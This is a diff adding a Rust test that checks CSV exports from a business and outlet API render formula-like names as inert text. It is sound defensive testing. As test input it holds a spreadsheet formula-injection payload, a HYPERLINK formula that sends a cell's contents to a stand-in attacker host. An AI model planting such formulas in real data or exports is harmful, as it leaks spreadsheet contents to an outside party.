@@ -390,3 +390,59 @@ async fn a_search_folds_accented_and_non_latin_names_on_both_back_ends() {
         assert_eq!(page["total"], found.len(), "q={q}: the count scans with the same folding");
     }
 }
+
+/// Issue 28, item 10: text a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return) is written to every CSV with a leading `'`, shown as text;
+/// numbers stay numbers, and NDJSON keeps the text exact.
+#[actix_rt::test]
+async fn csv_exports_carry_no_live_formulas() {
+    let app = spawn_app().await;
+    let officer = app.token_for(Role::Officer).await;
+    let retail = app.token_for(Role::Retail).await;
+    let formula = r#"=HYPERLINK("https://evil.example/?d="&A2,"open")"#;
+    let names = [formula, "@SUM(1+1)", "+62 812 3", "-2+3", "Toko Biasa"];
+    for (n, name) in names.iter().enumerate() {
+        let mut body = business_json(n + 1);
+        body["name"] = json!(name);
+        app.create_business(&officer, &body).await;
+    }
+    let reply = app
+        .post("/api/v1/outlets")
+        .token(&retail)
+        .json(&json!({"code": "EVIL-1", "name": formula, "district_code": "35.24.05"}))
+        .send()
+        .await;
+    assert_eq!(reply.status, 201, "{}", String::from_utf8_lossy(&reply.body));
+
+    let cells = |body: &[u8], column: &str| -> Vec<String> {
+        let mut reader = csv::Reader::from_reader(body);
+        let at = reader.headers().unwrap().iter().position(|h| h == column).unwrap();
+        reader.records().map(|r| r.unwrap()[at].to_owned()).collect()
+    };
+    let export = |path: &'static str, accept: &'static str| {
+        app.get(path).token(&officer).header("accept", accept).send()
+    };
+    let csv = export("/api/v1/businesses?sort=id", "text/csv").await;
+    assert_eq!(csv.status, 200);
+    let expected: Vec<String> = names
+        .iter()
+        .map(|n| if n.starts_with(['=', '+', '-', '@']) { format!("'{n}") } else { (*n).to_owned() })
+        .collect();
+    assert_eq!(cells(&csv.body, "name"), expected);
+    let employees = cells(&csv.body, "employees");
+    assert!(employees.iter().all(|e| e.parse::<i64>().is_ok()), "numbers stay numbers: {employees:?}");
+    let outlets = export("/api/v1/outlets", "text/csv").await;
+    assert!(
+        cells(&outlets.body, "name").contains(&format!("'{formula}")),
+        "{}",
+        String::from_utf8_lossy(&outlets.body)
+    );
+
+    let ndjson = export("/api/v1/businesses?sort=id", "application/x-ndjson").await;
+    let exact: Vec<String> = String::from_utf8(ndjson.body)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap()["name"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(exact, names);
+}
